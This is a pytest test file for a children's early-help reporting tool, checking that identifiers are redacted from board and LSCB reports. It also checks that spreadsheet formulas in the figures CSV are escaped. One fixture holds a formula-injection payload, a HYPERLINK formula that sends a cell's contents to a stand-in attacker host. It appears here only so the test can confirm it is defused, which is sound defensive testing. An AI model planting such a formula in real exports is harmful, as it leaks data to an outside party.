"""Free text in board and LSCB reports: a theme recorded many times, a referral reason or a
concern theme is shown only with the identifiers taken out (names and EHM numbers held in the
store; dates, phone numbers, postcodes, email addresses and case numbers by their shape), and
what a spreadsheet would run is written as text in the figures file.

The reports are the real notebooks, run with papermill and exported with nbconvert, on a copy
of the demo store with a made-up child, worker and family planted in learning and actions
recorded more often than the disclosure threshold (5), and in the referral reason of open
episodes and the theme of concerns raised in the quarter. On SQLite and on PostgreSQL (the
planted store's `ehkit copy`).
"""

from __future__ import annotations

import csv
import shutil

import pytest
from pg import on_back_end

from ehkit import db as store
from ehkit import metrics, periods, redact, reports

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("free_text")]

CHILD, DOB, WORKER = "Quorvexa Plantchild", "2014-02-03", "Zembrowska Plantworker"
EHM = "QZ-77-EHM"  # not shaped like a case number: only the store knows it is one
LEARNING = (f"{CHILD} ({EHM}, born 03/02/2014) lives at DL1 5QT; call 07700 900123 or "
            f"quorvexa.family@example.org; {WORKER} to lead")
ALSO = "Make sure plantchild's wishes and Quorvexa's voice are recorded by 3 February 2026"
REASON = f"Referred by {WORKER} about {CHILD}, {EHM}"
THEME = f"{CHILD} at DL1 5QT was not listened to"
FORMULA = f'=HYPERLINK("http://evil.example/?"&A1,"{CHILD}")'
SECRETS = ["quorvexa", "plantchild", EHM.lower(), "03/02/2014", DOB, "3 february 2026",
           "dl1 5qt", "07700 900123", "example.org", "zembrowska", "plantworker"]
TIMES = 60  # as in issue 13: far more than the threshold, and more than any other theme


@pytest.fixture(scope="module")
def planted(demo_db_path, tmp_path_factory):
    path = tmp_path_factory.mktemp("planted") / "ehkit.db"
    shutil.copy(demo_db_path, path)
    database = store.connect(path)
    audits = [r[0] for r in database.execute(
        "SELECT id FROM audits WHERE status = 'submitted' AND audit_date LIKE '2026-%' "
        "ORDER BY id LIMIT ?", [2 * TIMES])]
    assert len(audits) == 2 * TIMES
    episode = database.execute("SELECT episode_id FROM audits WHERE id = ?",
                               [audits[0]]).fetchone()[0]
    with store.acting_as(actor="test setup"), store.transaction(database):
        database["episodes"].update(episode, {"ehm_number": EHM})
        database["children"].insert({"episode_id": episode, "name": CHILD,
                                     "date_of_birth": DOB})
        database["practitioners"].insert({"name": WORKER, "agency_id": 1})
        for i, a in enumerate(audits):
            database["audits"].update(a, {"learning": LEARNING if i < TIMES else ALSO})
        database["actions"].insert_all(
            {"audit_id": a, "number": 99, "action": FORMULA} for a in audits[:TIMES])
        open_in_q3 = [r[0] for r in database.execute(
            "SELECT id FROM episodes WHERE start_date <= '2026-09-30' AND (end_date IS NULL "
            "OR end_date > '2026-09-30') ORDER BY id LIMIT 7")]
        for e in open_in_q3:
            database["episodes"].update(e, {"referral_reason": REASON})
        database["imports"].insert({  # a file named after the family
            "kind": "episodes", "file_name": f"{CHILD} {EHM}.csv", "sha256": "ab" * 32,
            "rows_read": 1, "inserted": 0, "updated": 1, "unchanged": 0, "rejected": 0,
            "imported_by": "test setup"})
        database["service_user_feedback"].insert_all(
            {"episode_id": e, "given_on": "2026-08-14", "respondent": "parent_carer",
             "stage": "closure", "concern_raised": 1, "concern_theme": THEME}
            for e in open_in_q3)
    database.close()
    return path


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def planted_on(planted, request, tmp_path_factory):
    """The planted store on each back end, to write to: a copy of the file, or its `ehkit
    copy` (a path or a URL); the planted file itself is left as it was made."""
    if request.param == "sqlite":
        return shutil.copy(planted, tmp_path_factory.mktemp("planted_on") / "ehkit.db")
    return on_back_end(planted, request.param, request)


@pytest.fixture(scope="module")
def rendered(planted_on, tmp_path_factory):
    out = tmp_path_factory.mktemp("reports")
    return {(kind, audience): reports.run(kind, db=planted_on, period=period, audience=audience,
                                          out_dir=out)
            for kind, period, audience in (("annual", "2026", "lscb"),
                                           ("annual", "2026", "board"),
                                           ("quarterly", "2026Q3", "board"),
                                           ("quarterly", "2026Q3", "lscb"))}


def _figures(path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.reader(f))


def test_board_and_lscb_reports_never_carry_an_identifier_however_often_it_was_recorded(
        rendered):
    for result in rendered.values():
        for path in (result.html, result.figures):
            text = path.read_text(encoding="utf-8").casefold()
            for secret in SECRETS:
                assert secret not in text, f"{secret!r} in {path.name}"


def test_outside_the_head_of_services_report_an_import_is_known_by_its_hash_alone(
        rendered, planted, tmp_path):
    for result in rendered.values():
        html = result.html.read_text(encoding="utf-8")
        assert "latest imports: (sha256 abababababab, " in html
    internal = reports.run("monthly", db=planted, period="2026-09", audience="head_of_service",
                           out_dir=tmp_path)
    assert f"{CHILD} {EHM}.csv (sha256 abababababab" in internal.html.read_text(encoding="utf-8")


def test_a_redacted_theme_is_still_shown_and_the_report_says_what_was_taken_out(rendered):
    html = rendered[("annual", "lscb")].html.read_text(encoding="utf-8")
    assert ("[name] ([EHM number], born [date]) lives at [postcode]; call [phone] or [email]; "
            "[name] to lead") in html
    assert "Make sure [name]'s wishes and [name]'s voice are recorded by [date]" in html
    assert "2 of these had names, EHM numbers, dates" in html
    assert "1 of these had names" in html  # the actions: the formula named the child
    quarterly = rendered[("quarterly", "board")].html.read_text(encoding="utf-8")
    assert "<td>Referred by [name] about [name], [EHM number]</td>" in quarterly
    assert "<td>[name] at [postcode] was not listened to</td>" in quarterly


def test_figures_file_writes_a_repeated_formula_as_text(rendered):
    for result in rendered.values():
        rows = _figures(result.figures)
        assert rows[0] == ["key", "label", "value"]
        for row in rows:
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    labels = [label for _, label, _ in _figures(rendered[("annual", "lscb")].figures)]
    assert "'" + FORMULA.replace(CHILD, "[name]") in labels


def test_a_theme_counts_the_same_words_once_identifiers_are_taken_out(planted_on):
    """Two families' names in the same sentence make one theme, not two of one each."""
    database = store.connect(planted_on)
    with store.transaction(database):
        database["children"].insert({"episode_id": 1, "name": "Brimble Otherchild"})
        ids = [r[0] for r in database.execute(
            "SELECT id FROM audits WHERE status = 'submitted' AND audit_date LIKE '2026-02%'")]
        for i, a in enumerate(ids[:2]):
            database["audits"].update(a, {"learning": f"Hear {('Brimble', 'Quorvexa')[i]} first"})
    rows = metrics.most_common(database, periods.parse("2026-02"), "learning")
    database.close()
    assert {"text": "Hear [name] first", "count": 2, "redacted": True} in rows


@pytest.mark.parametrize("text,shown", [
    ("Ring 07700 900123 or +44 (0)191 498 0000", "Ring [phone] or [phone]"),
    ("Born 3rd of March 2011, 2011-03-03, 03.03.11 or Mar 3, 2011",
     "Born [date], [date], [date] or [date]"),
    ("Family at SW1A 1AA and dl1 5qt", "Family at [postcode] and [postcode]"),
    ("Mail jo.bloggs+eh@council.example.gov.uk", "Mail [email]"),
    ("Case EHM100123, CS-2024-0001 and NHS 9434765919", "Case [case number], [case number] "
                                                         "and NHS [case number]"),
    ("Mark will hope to review in 2025-26 at 10am, Q4, S47", "Mark will hope to review in "
                                                             "2025-26 at 10am, Q4, S47"),
])
def test_identifiers_are_known_by_their_shape(text, shown):
    assert redact.Redactor(frozenset(), frozenset())(text) == shown


def test_every_word_of_a_name_in_the_store_is_taken_out_in_any_case():
    r = redact.Redactor(redact.names(["Ada O'Neil-Brook", "Will Smith"]), frozenset({"ab12"}))
    assert r("ada o'neil-brook and O'Neil's plan, Brook-led; SMITH attends; AB12") == (
        "[name] and [name]'s plan, [name]-led; [name] attends; [EHM number]")
    # a name that is also a word goes wherever the word appears: a lost word, never a name
    assert r("Workers will review") == "Workers [name] review"
